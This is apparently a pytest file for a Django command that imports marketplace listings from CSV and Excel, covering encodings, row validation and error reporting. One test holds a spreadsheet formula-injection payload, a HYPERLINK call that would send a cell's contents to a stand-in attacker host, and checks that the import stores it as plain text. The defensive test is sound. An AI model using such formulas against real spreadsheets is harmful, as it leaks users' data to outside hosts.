"""The `market import` command: all-or-nothing CSV (UTF-8 or GB18030) and Excel import naming every bad
row and column."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook

from innozone.core.models import Organization
from innozone.market.models import Listing

from .api_calls import LONGYUAN, _ok

HEADER = ["kind", "title", "description", "field", "region", "owner", "trl", "price", "price_unit"]
GOOD_ROWS = [
    [
        "achievement",
        "镁合金半固态压铸成形技术",
        "半固态压铸用于汽车轻量化零部件。",
        "有色金属",
        "兰州市七里河区",
        "兰州理工大学",
        "6",
        "120",
        "万元",
    ],
    [
        "service",
        "锂电池安全性能检测服务",
        "针刺、挤压、过充等安全测试。",
        "新能源",
        "白银高新区",
        "白银新能源检测有限公司（测试）",
        "",
        "3000",
        "元/次",
    ],
    [
        "expert",
        "马铃薯脱毒种薯专家",
        "长期从事马铃薯脱毒种薯繁育研究。",
        "现代农业",
        "兰州",
        "甘肃农业大学",
        "",
        "",
        "",
    ],
    [
        "demand",
        "中药配方颗粒质量标准提升需求",
        "寻求中药配方颗粒指纹图谱检测方法。",
        "生物医药",
        "兰州新区",
        "甘肃陇原新材料科技有限公司",
        "",
        "50000",
        "元",
    ],
]


def _csv(tmp_path, rows, name="listings.csv", encoding="utf-8"):
    path = tmp_path / name
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(HEADER)
    writer.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def test_import_of_a_good_file_saves_every_row(people, tmp_path, api):
    before = Listing.objects.count()
    out = io.StringIO()
    call_command("market", "import", str(_csv(tmp_path, GOOD_ROWS)), stdout=out)
    assert f"imported {len(GOOD_ROWS)} listings" in out.getvalue()
    assert Listing.objects.count() == before + len(GOOD_ROWS)
    regions = {
        "兰州市七里河区": "七里河区",
        "白银高新区": "白银高新技术产业开发区",
        "兰州": "兰州市",
        "兰州新区": "兰州新区",
    }
    for kind, title, description, field, region, owner, trl, price, unit in GOOD_ROWS:
        listing = Listing.objects.get(title=title)
        assert (listing.kind, listing.description, listing.field.name) == (kind, description, field)
        assert listing.region.name == regions[region]
        assert listing.owner.name == owner
        assert listing.status == Listing.Status.PUBLISHED
        assert listing.trl == (int(trl) if trl else None)
        if unit.startswith("万元"):  # stored in yuan, so that the price filter compares like with like
            price, unit = str(Decimal(price) * 10000), "元" + unit[2:]
        assert listing.price == (Decimal(price) if price else None)
        assert listing.price_unit == unit
    # an existing organization is reused, a new one is created once
    assert Organization.objects.filter(name=LONGYUAN).count() == 1
    assert Organization.objects.filter(name="白银新能源检测有限公司（测试）").count() == 1
    # imported listings are searchable at once
    hits = _ok(api.as_user(people["enterprise"]).get("/api/market/search?q=半固态压铸"))
    assert Listing.objects.get(title=GOOD_ROWS[0][1]).pk in [h["id"] for h in hits]


def test_import_reads_gb18030_and_can_leave_rows_for_review(people, tmp_path):
    path = _csv(tmp_path, GOOD_ROWS[:2], name="gbk.csv", encoding="gb18030")
    call_command("market", "import", str(path), "--pending", stdout=io.StringIO())
    for row in GOOD_ROWS[:2]:
        assert Listing.objects.get(title=row[1]).status == Listing.Status.PENDING


def test_import_of_a_file_with_two_bad_rows_names_both_and_saves_nothing(people, tmp_path):
    rows = [
        GOOD_ROWS[0],  # row 2
        ["achievement", "未知领域的成果", "描述", "量子玄学", "兰州", "兰州大学", "", "", ""],  # row 3: unknown field
        GOOD_ROWS[1],  # row 4
        ["service", "", "没有名称的服务", "新能源", "兰州", "兰州大学", "", "", ""],  # row 5: missing title
        GOOD_ROWS[2],  # row 6
    ]
    listings, organizations = Listing.objects.count(), Organization.objects.count()
    with pytest.raises(CommandError) as refused:
        call_command("market", "import", str(_csv(tmp_path, rows)), stdout=io.StringIO())
    message = str(refused.value)
    lines = message.splitlines()
    assert any("row 3" in line and "field" in line and "量子玄学" in line for line in lines), message
    assert any("row 5" in line and "title" in line for line in lines), message
    for good in ("row 2", "row 4", "row 6"):
        assert good not in message
    assert Listing.objects.count() == listings
    assert Organization.objects.count() == organizations
    assert not Listing.objects.filter(title=GOOD_ROWS[0][1]).exists()


def test_import_of_an_excel_file(people, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in GOOD_ROWS[:3]:
        ws.append([int(v) if v.isdigit() else v for v in row])
    path = tmp_path / "listings.xlsx"
    wb.save(path)
    before = Listing.objects.count()
    call_command("market", "import", str(path), stdout=io.StringIO())
    assert Listing.objects.count() == before + 3
    assert Listing.objects.get(title=GOOD_ROWS[0][1]).trl == 6


def test_a_cell_that_looks_like_a_formula_is_stored_as_the_text_it_is(people, tmp_path):
    """Nothing is evaluated on import; the exports write such text as text (tests/core/test_exports.py)."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
    call_command(
        "market",
        "import",
        str(_csv(tmp_path, [[GOOD_ROWS[0][0], formula, "+1+1", *GOOD_ROWS[0][3:]]])),
        stdout=io.StringIO(),
    )
    listing = Listing.objects.get(title=formula)
    assert listing.description == "+1+1"


def test_import_errors_name_the_spreadsheet_row_even_after_a_blank_row(people, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append(GOOD_ROWS[0])  # row 2
    ws.append([None] * len(HEADER))  # row 3 left blank
    ws.append(["achievement", "未知领域的成果", "描述", "量子玄学", "兰州", "兰州大学", "", "", ""])  # row 4
    path = tmp_path / "blank.xlsx"
    wb.save(path)
    with pytest.raises(CommandError) as refused:
        call_command("market", "import", str(path), stdout=io.StringIO())
    assert "row 4" in str(refused.value), str(refused.value)


def test_import_of_a_missing_file_is_a_command_error(people, tmp_path):
    with pytest.raises(CommandError, match="no such file"):
        call_command("market", "import", str(tmp_path / "nope.csv"), stdout=io.StringIO())
